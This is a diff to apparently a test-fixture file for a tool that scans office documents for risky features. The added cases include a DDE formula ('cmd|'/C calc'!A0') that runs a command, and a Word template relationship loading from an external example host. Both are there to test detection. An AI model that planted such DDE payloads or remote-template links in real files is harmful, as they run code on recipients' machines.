@@ -34,6 +34,16 @@ const linked = sampleWorkbook({
         )
       : xml,
 });
+const dde = (formula: string): Uint8Array =>
+  sampleWorkbook({
+    ...formSample,
+    definedNamesXml: `<definedNames><definedName name="a">${formula}</definedName></definedNames>`,
+  });
+const templated = (target: string): Uint8Array =>
+  sampleDocx({
+    relationships: `<Relationship Id="rId9" Type="http://a/relationships/attachedTemplate" Target="${target}" TargetMode="External"/>`,
+    blocks: [runs(r('a'))],
+  });
 const pdf = (action: string): Uint8Array =>
   text(
     `%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n3 0 obj\n${action}\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`,
@@ -52,6 +62,11 @@ export const fileCases: Readonly<Partial<Record<Code, FileCase>>> = {
   'file-damaged': pair(book.subarray(0, book.length - 40), book),
   'file-too-large': pair(new Uint8Array(limits.file + 1), new Uint8Array([1, 2, 0])),
   'file-macros': pair(packParts({ ...sampleParts(formSample), 'xl/vbaProject.bin': 'x' }), book),
+  'file-dde': pair(dde('cmd|&apos;/C calc&apos;!A0'), dde('A1&amp;&quot;|&quot;')),
+  'file-loads-outside': pair(
+    templated('https://vi-du.example/mau.dotm'),
+    templated('file:///C:\\Users\\a\\Normal.dotm'),
+  ),
   'file-external-links': pair(linked, book),
   'file-embedded-objects': pair(
     packParts({ ...sampleParts(formSample), 'xl/embeddings/oleObject1.bin': 'x' }),
@@ -99,6 +114,10 @@ export const foundElsewhere: Readonly<
   Partial<Record<Code, { readonly test: string; readonly values: Finding['values'] }>>
 > = {
   'file-no-result': { test: 'test/cli/file-codes.test.ts', values: { file: 'bao-cao.xlsx' } },
+  'file-unreadable': {
+    test: 'test/cli/unreadable-files.test.ts',
+    values: { file: 'bao-cao.xlsx', why: 'link' },
+  },
   'file-nested-too-deep': { test: 'test/cli/file-codes.test.ts', values: {} },
   'sender-from-container': {
     test: 'test/cli/file-codes.test.ts',
